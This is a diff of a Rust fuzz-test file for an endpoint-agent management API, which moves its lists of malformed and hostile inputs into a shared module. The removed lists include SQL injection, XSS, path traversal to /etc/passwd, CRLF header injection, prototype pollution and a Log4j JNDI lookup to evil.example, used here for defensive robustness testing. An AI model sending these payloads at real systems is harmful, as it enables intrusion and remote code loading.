@@ -5,120 +5,64 @@ use http::Method;
 use serde_json::{Value, json};
 use tests::{
     Agent, Answer, App, Person,
+    executables::{ELF_AMD64, elf},
+    hostile::{encoded, percent_encoded, raw_values, texts},
     surface::{self, Caller},
+    upload::Multipart,
 };
 
 const TEST: &str = "2f0b3f06-2f0d-4b44-93d9-5d4ed7f6d6c1";
 const PLACE: &str = "@@here@@";
 
-/// Valid texts, as text.
-fn texts() -> Vec<String> {
-    let mut texts: Vec<String> = [
-        "",
-        " ",
-        "'",
-        "\"",
-        "\\",
-        "'; DROP TABLE agents; --",
-        "' OR '1'='1",
-        "%",
-        "_",
-        "%_\\%",
-        "\u{1}\u{2}\u{1f}\u{7f}",
-        "\r\n",
-        "\r\nSet-Cookie: a=b",
-        "\t",
-        "\u{202e}gnp.exe",
-        "\u{feff}",
-        "\u{ffff}\u{fffe}",
-        "\u{fffd}",
-        "🦀👩‍👩‍👧‍👦",
-        "e\u{301}",
-        "Ａ",
-        "<script>alert(1)</script>",
-        "../../../../etc/passwd",
-        "C:\\Windows\\System32",
-        "{{ cron_secret }}",
-        "${jndi:ldap://evil.example}",
-        "null",
-        "true",
-        "1e400",
-        "$.system",
-        "{\"a\":1}",
-        "\u{10ffff}",
-    ]
-    .map(str::to_owned)
-    .to_vec();
-    texts.push("x".repeat(64 << 10));
-    texts.push("\u{10348}".repeat(16 << 10));
-    texts.push("\n".repeat(64 << 10));
-    texts
-}
+const HEADERS: &[&str] = &[
+    "authorization",
+    "x-agent-id",
+    "x-agent-version",
+    "x-request-timestamp",
+    "content-type",
+    "content-encoding",
+    "x-request-id",
+    "traceparent",
+    "x-forwarded-for",
+    "spin-client-addr",
+    "spin-full-url",
+    "spin-path-info",
+    "host",
+    "cookie",
+    "accept",
+    "accept-encoding",
+    "origin",
+    "range",
+    "if-none-match",
+    "expect",
+    "idempotency-key",
+];
 
-/// What stands where a value should, as it is written in the document. Most of it is no text, some of it no JSON.
-fn raw_values() -> Vec<Vec<u8>> {
-    let mut raw: Vec<Vec<u8>> = [
-        &br#""\ud800""#[..],
-        br#""\udc00\ud800""#,
-        br#""a\ud83d""#,
-        br#""\u0000""#,
-        br#""a\u0000b""#,
-        b"\"\xff\xfe\"",
-        b"\"\xed\xa0\x80\"",
-        b"\"\xc0\x80\"",
-        b"\"\xf4\x90\x80\x80\"",
-        b"\"\x00\"",
-        b"\"\x01\"",
-        b"\"\n\"",
-        br#""\x41""#,
-        br#""\u12""#,
-        b"\"unended",
-        b"1e400",
-        b"-1e400",
-        b"1e-400",
-        b"-0",
-        b"-0.0",
-        b"0.1e1",
-        b"00",
-        b"+1",
-        b".5",
-        b"0x10",
-        b"NaN",
-        b"Infinity",
-        b"9007199254740993",
-        b"18446744073709551615",
-        b"18446744073709551616",
-        b"-9223372036854775809",
-        b"123456789012345678901234567890123456789012345678901234567890",
-        b"1.7976931348623157e308",
-        b"true",
-        b"null",
-        b"[]",
-        b"{}",
-        b"[[]]",
-        b"{\"a\":{\"b\":[null]}}",
-        b"{\"__proto__\":{\"admin\":true}}",
-        b"",
-        b",",
-        b"}",
-        b"/**/1",
-    ]
-    .map(<[u8]>::to_vec)
-    .to_vec();
-    raw.push([b"[".repeat(1000), b"]".repeat(1000)].concat());
-    raw.push([b"{\"a\":".repeat(1000), b"1".to_vec(), b"}".repeat(1000)].concat());
-    raw.push(b"[".repeat(100_000));
-    raw.push(b"9".repeat(100_000));
-    raw.push([b"1e".to_vec(), b"9".repeat(1000)].concat());
-    raw.push([b"[".to_vec(), b"0,".repeat(100_000), b"0]".to_vec()].concat());
-    raw
-}
+const HEADER_VALUES: &[&[u8]] = &[
+    b"",
+    b"\xff\xfe\x80",
+    "é🦀".as_bytes(),
+    &[b'x'; 8000],
+    b"0",
+    b"-1",
+    b"\"',;=\\",
+    b"9999-99-99T99:99:99Z",
+    b"+275760-09-13T00:00:00.000Z",
+    b"0000-00-00T00:00:00Z",
+    b"Sun, 06 Nov 1994 08:49:37 GMT",
+    b"2026-07-11T14:24:22.1234567890123456789Z",
+    b"2026-07-11T14:24:22+99:99",
+    b"multipart/form-data; boundary=",
+    b"application/json; charset=",
+    b"gzip, gzip, br",
+    b"1, 2, 3, 4",
+];
 
-/// A body that a route takes, with every field there is.
+/// A document that a route takes, with every field there is.
 struct Body {
     method: Method,
     path: String,
-    body: Value,
+    document: Value,
 }
 
 struct Fleet {
@@ -131,97 +75,32 @@ impl Fleet {
     async fn start() -> Self {
         let app = App::start().await;
         let agent = app.enroll("org-1").await;
-        app.admin("org-1").send_build(TEST, b"#!/bin/sh\n").await;
+        app.admin("org-1").upload_build(TEST, &elf(ELF_AMD64)).await;
         let task = app.admin("org-1").order_command(agent.id(), "id").await;
         Self { app, agent, task }
     }
 
     fn bodies(&self) -> Vec<Body> {
-        let agents = json!([self.agent.id()]);
-        let body = |method, path: &str, body| Body { method, path: path.to_owned(), body };
-        let mut heartbeat = self.agent.heartbeat_body(Some(&tests::agent::Gap {
-            reason: "dns_failure".into(),
-            offline_seconds: 7,
-            failures: 2,
-        }));
-        heartbeat["reconnect_context"]["detail"] = json!("x");
-        heartbeat["reconnect_context"]["system_at_failure"] =
-            json!({"disk_free_mb": 1, "memory_mb": 2, "total_memory_mb": 3, "cpu_percent": 4});
-        let metadata = json!({
-            "category": "", "subcategory": "", "severity": "", "techniques": ["x"], "tactics": ["x"], "threat_actor": "",
-            "target": ["x"], "complexity": "", "tags": ["x"], "score": null, "integrations": ["x"],
+        let body = |method, path: &str, document| Body { method, path: path.to_owned(), document };
+        let task = |rest: &str| format!("/api/agent/tasks/{}/{rest}", self.task);
+        let release = json!({
+            "version": "1", "os": "linux", "arch": "amd64", "binary_path": "x", "release_notes": "x",
+            "mandatory": true,
         });
-        let control = json!({
-            "control_id": "c", "control_name": "n", "validator": "v", "exit_code": 0, "compliant": true,
-            "severity": "s", "category": "c", "subcategory": "s", "techniques": ["t"], "tactics": ["t"], "expected": "e",
-            "actual": "a", "details": "d", "skipped": false, "error_message": "m",
-        });
-        vec![
-            body(
-                Method::POST,
-                "/api/agent/enroll",
-                json!({"token": "acht_x", "hostname": "h", "os": "linux", "arch": "amd64", "agent_version": "1"}),
-            ),
-            body(Method::POST, "/api/agent/heartbeat", heartbeat),
-            body(
-                Method::PATCH,
-                &format!("/api/agent/tasks/{}/status", self.task),
-                json!({"status": "executing", "error": "x"}),
-            ),
-            body(
-                Method::POST,
-                &format!("/api/agent/tasks/{}/result", self.task),
-                json!({
-                    "task_id": "t", "test_uuid": "u", "exit_code": 0, "stdout": "o", "stderr": "e", "started_at": "s",
-                    "completed_at": "c", "execution_duration_ms": 1, "binary_sha256": "b", "hostname": "h",
-                    "os": "linux", "arch": "amd64", "error": "x", "bundle_results": {
-                        "schema_version": "1", "bundle_id": "b", "bundle_name": "n", "bundle_category": "c",
-                        "bundle_subcategory": "s", "execution_id": "e", "started_at": "s", "completed_at": "c",
-                        "overall_exit_code": 0, "total_controls": 1, "passed_controls": 1, "failed_controls": 0,
-                        "controls": [control],
-                    },
-                }),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/tokens",
-                json!({"org_id": "org-1", "ttl_hours": 1, "max_uses": 1, "metadata": {"site": "x"}}),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/tasks",
-                json!({
-                    "org_id": "org-1", "agent_ids": agents, "test_uuid": TEST, "test_name": "t", "binary_name": "b",
-                    "execution_timeout": 1, "arguments": ["x"], "priority": 1, "metadata": metadata, "target_index": "x",
-                    "max_retries": 1,
-                }),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/tasks/command",
-                json!({"org_id": "org-1", "agent_ids": agents, "command": "x", "execution_timeout": 1, "priority": 1}),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/tasks/update",
-                json!({"org_id": "org-1", "agent_ids": agents}),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/tasks/uninstall",
-                json!({"org_id": "org-1", "agent_ids": agents, "cleanup": true}),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/versions",
-                json!({"version": "1", "os": "linux", "arch": "amd64", "binary_path": "x", "release_notes": "x", "mandatory": true}),
-            ),
-            body(
-                Method::POST,
-                "/api/agent/admin/versions/build",
-                json!({"version": "1", "os": "linux", "arch": "amd64"}),
-            ),
-        ]
+        let report = json!({"status": "executing", "error": "x"});
+        let mut bodies = vec![
+            body(Method::POST, "/api/agent/enroll", machine("acht_x", "h")),
+            body(Method::POST, "/api/agent/heartbeat", heartbeat(&self.agent)),
+            body(Method::PATCH, &task("status"), report),
+            body(Method::POST, &task("result"), result()),
+        ];
+        for (path, document) in orders(self.agent.id()) {
+            bodies.push(body(Method::POST, &format!("/api/agent/admin/{path}"), document));
+        }
+        for path in ["versions", "versions/build"] {
+            bodies.push(body(Method::POST, &format!("/api/agent/admin/{path}"), release.clone()));
+        }
+        bodies
     }
 
     async fn send(&self, method: &Method, path: &str, body: Vec<u8>) -> Answer {
@@ -255,6 +134,67 @@ impl Fleet {
             .await;
         assert_eq!(tasks.expect(200).data()["total"], 1);
     }
+}
+
+fn machine(token: &str, hostname: &str) -> Value {
+    json!({
+        "token": token, "hostname": hostname, "os": "linux", "arch": "amd64", "agent_version": hostname,
+    })
+}
+
+fn heartbeat(agent: &Agent) -> Value {
+    let gap = tests::agent::Gap { reason: "dns_failure".into(), offline_seconds: 7, failures: 2 };
+    let mut body = agent.heartbeat_body(Some(&gap));
+    body["reconnect_context"]["detail"] = json!("x");
+    body["reconnect_context"]["system_at_failure"] =
+        json!({"disk_free_mb": 1, "memory_mb": 2, "total_memory_mb": 3, "cpu_percent": 4});
+    body
+}
+
+fn result() -> Value {
+    let control = json!({
+        "control_id": "c", "control_name": "n", "validator": "v", "exit_code": 0, "compliant": true,
+        "severity": "s", "category": "c", "subcategory": "s", "techniques": ["t"], "tactics": ["t"],
+        "expected": "e", "actual": "a", "details": "d", "skipped": false, "error_message": "m",
+    });
+    json!({
+        "task_id": "t", "test_uuid": "u", "exit_code": 0, "stdout": "o", "stderr": "e",
+        "started_at": "s", "completed_at": "c", "execution_duration_ms": 1, "binary_sha256": "b",
+        "hostname": "h", "os": "linux", "arch": "amd64", "error": "x", "bundle_results": {
+            "schema_version": "1", "bundle_id": "b", "bundle_name": "n", "bundle_category": "c",
+            "bundle_subcategory": "s", "execution_id": "e", "started_at": "s", "completed_at": "c",
+            "overall_exit_code": 0, "total_controls": 1, "passed_controls": 1, "failed_controls": 0,
+            "controls": [control],
+        },
+    })
+}
+
+/// What operators order, by the last part of its route.
+fn orders(agent_id: &str) -> [(&'static str, Value); 5] {
+    let agents = json!([agent_id]);
+    let metadata = json!({
+        "category": "", "subcategory": "", "severity": "", "techniques": ["x"], "tactics": ["x"],
+        "threat_actor": "", "target": ["x"], "complexity": "", "tags": ["x"], "score": null,
+        "integrations": ["x"],
+    });
+    let test = json!({
+        "org_id": "org-1", "agent_ids": agents, "test_uuid": TEST, "test_name": "t",
+        "binary_name": "b", "execution_timeout": 1, "arguments": ["x"], "priority": 1,
+        "metadata": metadata, "target_index": "x", "max_retries": 1,
+    });
+    let command = json!({
+        "org_id": "org-1", "agent_ids": agents, "command": "x", "execution_timeout": 1, "priority": 1,
+    });
+    [
+        (
+            "tokens",
+            json!({"org_id": "org-1", "ttl_hours": 1, "max_uses": 1, "metadata": {"a": "x"}}),
+        ),
+        ("tasks", test),
+        ("tasks/command", command),
+        ("tasks/update", json!({"org_id": "org-1", "agent_ids": agents})),
+        ("tasks/uninstall", json!({"org_id": "org-1", "agent_ids": agents, "cleanup": true})),
+    ]
 }
 
 /// Pointers to every value in a document, containers included.
@@ -301,11 +241,11 @@ fn is_sound(answer: &Answer, path: &str, what: &str) {
 #[tokio::test]
 async fn no_value_in_any_field_of_any_body_is_our_fault() {
     let fleet = Fleet::start().await;
-    for Body { method, path, body } in fleet.bodies() {
-        for place in places(&body) {
+    for Body { method, path, document } in fleet.bodies() {
+        for place in places(&document) {
             for raw in raw_values() {
                 fleet.reset();
-                let answer = fleet.send(&method, &path, with_raw(&body, &place, &raw)).await;
+                let answer = fleet.send(&method, &path, with_raw(&document, &place, &raw)).await;
                 if path != "/api/agent/enroll" {
                     is_sound(&answer, &path, &format!("{place} {}", String::from_utf8_lossy(&raw)));
                 }
@@ -319,12 +259,12 @@ async fn no_value_in_any_field_of_any_body_is_our_fault() {
 #[tokio::test]
 async fn no_text_in_any_field_of_any_body_is_our_fault() {
     let fleet = Fleet::start().await;
-    for Body { method, path, body } in fleet.bodies() {
-        for place in places(&body) {
+    for Body { method, path, document } in fleet.bodies() {
+        for place in places(&document) {
             for text in texts() {
                 fleet.reset();
-                let document = with(&body, &place, json!(text)).to_string().into_bytes();
-                let answer = fleet.send(&method, &path, document).await;
+                let sent = with(&document, &place, json!(text)).to_string().into_bytes();
+                let answer = fleet.send(&method, &path, sent).await;
                 if path != "/api/agent/enroll" {
                     is_sound(&answer, &path, &format!("{place} {text:?}"));
                 }
@@ -341,8 +281,8 @@ async fn no_text_in_any_field_of_any_body_is_our_fault() {
 #[tokio::test]
 async fn whole_bodies_of_any_kind_are_not_our_fault() {
     let fleet = Fleet::start().await;
-    for Body { method, path, body } in fleet.bodies() {
-        let whole = body.to_string().into_bytes();
+    for Body { method, path, document } in fleet.bodies() {
+        let whole = document.to_string().into_bytes();
         let mut bodies: Vec<Vec<u8>> = raw_values();
         bodies.extend([
             whole[..whole.len() - 1].to_vec(),
@@ -352,11 +292,13 @@ async fn whole_bodies_of_any_kind_are_not_our_fault() {
             vec![b' '; (10 << 20) + 1],
             whole.iter().flat_map(|it| [*it, 0]).collect(),
             // Every key twice, and keys that are no names.
-            format!("{{{0},{0}}}", &body.to_string()[1..whole.len() - 1]).into_bytes(),
-            body.to_string()
+            format!("{{{0},{0}}}", &document.to_string()[1..whole.len() - 1]).into_bytes(),
+            document
+                .to_string()
                 .replacen('{', r#"{"\u0000":1,"":2,"__proto__":{},"constructor":null,"#, 1)
                 .into_bytes(),
-            body.to_string()
+            document
+                .to_string()
                 .replacen('{', &format!("{{\"{}\":1,", "k".repeat(100_000)), 1)
                 .into_bytes(),
         ]);
@@ -392,7 +334,7 @@ async fn of_a_key_that_is_there_twice_the_last_counts() {
 }
 
 #[tokio::test]
-async fn what_is_taken_comes_back_as_it_was_sent() {
+async fn orders_come_back_as_they_were_sent() {
     let fleet = Fleet::start().await;
     let operator = fleet.app.admin("org-1");
     for text in texts() {
@@ -407,7 +349,46 @@ async fn what_is_taken_comes_back_as_it_was_sent() {
             assert_eq!(operator.task(&id).await["payload"]["command"], json!(text), "{text:.50}");
             fleet.reset();
         }
-        // A token's metadata, value and key.
+        // A test, in every text that it has.
+        let order = json!({
+            "org_id": "org-1", "agent_ids": [fleet.agent.id()], "test_uuid": TEST, "test_name": text,
+            "binary_name": "b", "arguments": [text], "metadata": {
+                "category": text, "subcategory": text, "severity": text, "techniques": [text],
+                "tactics": [text], "threat_actor": text, "target": [text], "complexity": text,
+                "tags": [text, text], "score": -0.5, "integrations": [text],
+            },
+        });
+        let sent = order.to_string().into_bytes();
+        let answer = fleet.send(&Method::POST, "/api/agent/admin/tasks", sent).await;
+        if answer.status == 201 {
+            let id = answer.data()["task_ids"][0].as_str().expect("text").to_owned();
+            let payload = operator.task(&id).await["payload"].clone();
+            for key in ["test_name", "arguments", "metadata"] {
+                assert_eq!(payload[key], order[key], "{text:.50}");
+            }
+            fleet.reset();
+        }
+        // A release's notes.
+        let form = Multipart::new().text("release_notes", &text).text("version", "1");
+        let form = form.text("os", "linux").text("arch", "amd64").file("binary", "a", b"x");
+        let request = fleet.app.post("/api/agent/admin/versions/upload");
+        let request = request.bearer(Person::admin("org-1").token());
+        let answer = form.into_request(request).send().await;
+        assert!(matches!(answer.status.as_u16(), 201 | 400), "{text:.50}: {}", answer.text());
+        if answer.status == 201 {
+            let listed = operator.get("/api/agent/admin/versions").await.expect(200).data();
+            assert_eq!(listed[0]["release_notes"], json!(text), "{text:.50}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn metadata_and_reports_come_back_as_they_were_sent() {
+    let fleet = Fleet::start().await;
+    let operator = fleet.app.admin("org-1");
+    for text in texts() {
+        fleet.reset();
+        // A token's metadata.
         let order = json!({"org_id": "org-1", "metadata": {"k": text}}).to_string();
         let answer = fleet.send(&Method::POST, "/api/agent/admin/tokens", order.into_bytes()).await;
         if answer.status == 201 {
@@ -458,52 +439,21 @@ async fn names_of_machines_come_back_as_they_were_sent() {
     let app = App::start().await;
     let token = app.admin("org-1").mint(200).await;
     for text in texts() {
-        let body = json!({"token": token, "hostname": text, "os": "linux", "arch": "amd64", "agent_version": text});
+        let body = machine(&token, &text);
         let answer = app.post("/api/agent/enroll").json(&body).send().await;
         assert!(matches!(answer.status.as_u16(), 201 | 400), "{text:.50}: {}", answer.text());
         if answer.status == 201 {
             let id = answer.data()["agent_id"].as_str().expect("text").to_owned();
             let agent = app.admin("org-1").agent(&id).await;
             assert_eq!((&agent["hostname"], &agent["agent_version"]), (&json!(text), &json!(text)));
-            let encoded: String = text.bytes().map(|it| format!("%{it:02x}")).collect();
-            let path = format!("/api/agent/admin/agents?limit=500&hostname={encoded}");
+            let hostname = percent_encoded(&text);
+            let path = format!("/api/agent/admin/agents?limit=500&hostname={hostname}");
             let page = app.admin("org-1").get(&path).await.expect(200).data();
             let found =
                 page["agents"].as_array().expect("a list").iter().any(|it| it["id"] == json!(id));
             assert!(found, "{text:.50} is not found by its name");
         }
     }
-}
-
-/// Percent-encoded, with bytes that are no text among them.
-fn encoded() -> Vec<String> {
-    let encode = |bytes: &[u8]| bytes.iter().map(|it| format!("%{it:02X}")).collect::<String>();
-    let mut encoded: Vec<String> =
-        texts().iter().filter(|it| it.len() < 5000).map(|it| encode(it.as_bytes())).collect();
-    encoded.extend(
-        [
-            "%",
-            "%%",
-            "%zz",
-            "%f",
-            "%ff",
-            "%C0%80",
-            "%ED%A0%80",
-            "%00",
-            "+",
-            "a%00b",
-            "&",
-            "=",
-            "[]",
-            "[a]=1",
-            "%u0041",
-            ";",
-            "#",
-        ]
-        .map(str::to_owned),
-    );
-    encoded.push("%41".repeat(4000));
-    encoded
 }
 
 #[tokio::test]
@@ -584,74 +534,24 @@ async fn no_path_is_our_fault() {
 #[tokio::test]
 async fn no_header_is_our_fault() {
     let fleet = Fleet::start().await;
-    let names = [
-        "authorization",
-        "x-agent-id",
-        "x-agent-version",
-        "x-request-timestamp",
-        "content-type",
-        "content-encoding",
-        "x-request-id",
-        "traceparent",
-        "x-forwarded-for",
-        "spin-client-addr",
-        "spin-full-url",
-        "spin-path-info",
-        "host",
-        "cookie",
-        "accept",
-        "accept-encoding",
-        "origin",
-        "range",
-        "if-none-match",
-        "expect",
-        "idempotency-key",
-    ];
-    let values: Vec<Vec<u8>> = vec![
-        b"".to_vec(),
-        b"\xff\xfe\x80".to_vec(),
-        "é🦀".as_bytes().to_vec(),
-        b"x".repeat(8000),
-        b"0".to_vec(),
-        b"-1".to_vec(),
-        b"\"',;=\\".to_vec(),
-        b"9999-99-99T99:99:99Z".to_vec(),
-        b"+275760-09-13T00:00:00.000Z".to_vec(),
-        b"0000-00-00T00:00:00Z".to_vec(),
-        b"Sun, 06 Nov 1994 08:49:37 GMT".to_vec(),
-        b"2026-07-11T14:24:22.1234567890123456789Z".to_vec(),
-        b"2026-07-11T14:24:22+99:99".to_vec(),
-        b"multipart/form-data; boundary=".to_vec(),
-        b"application/json; charset=".to_vec(),
-        b"gzip, gzip, br".to_vec(),
-        b"1, 2, 3, 4".to_vec(),
-    ];
+    let admin = Person::admin("org-1").token();
     for route in surface::routes() {
-        for name in names {
-            for value in &values {
-                fleet.app.database().end_windows();
-                let request = match route.caller {
-                    Caller::Device => fleet.agent.request(route.method.clone(), &route.path("x")),
-                    _ => {
-                        let request = fleet.app.request(route.method.clone(), &route.path("x"));
-                        request.bearer(Person::admin("org-1").token())
-                    }
-                };
-                let request =
-                    if route.method == Method::GET { request } else { request.json(&json!({})) };
-                for request in [request.set(name, value)] {
-                    let answer = request.send().await;
-                    let expected =
-                        answer.status.as_u16() < 500 || route.pattern.ends_with("/versions/build");
-                    let shown = String::from_utf8_lossy(value);
-                    assert!(
-                        expected,
-                        "{route:?} {name}: {shown:.50}: {} {}",
-                        answer.status,
-                        answer.text()
-                    );
-                }
-            }
+        for (name, value) in
+            HEADERS.iter().flat_map(|it| HEADER_VALUES.iter().map(move |value| (it, value)))
+        {
+            fleet.app.database().end_windows();
+            let path = route.path("x");
+            let request = if route.caller == Caller::Device {
+                fleet.agent.request(route.method.clone(), &path)
+            } else {
+                fleet.app.request(route.method.clone(), &path).bearer(&admin)
+            };
+            let is_read = route.method == Method::GET;
+            let request = if is_read { request } else { request.json(&json!({})) };
+            let answer = request.set(name, value).send().await;
+            let shown = format!("{route:?} {name}: {:.50}", String::from_utf8_lossy(value));
+            let expected = answer.status.as_u16() < 500 || path.ends_with("/versions/build");
+            assert!(expected, "{shown}: {} {}", answer.status, answer.text());
         }
     }
     fleet.is_unharmed().await;
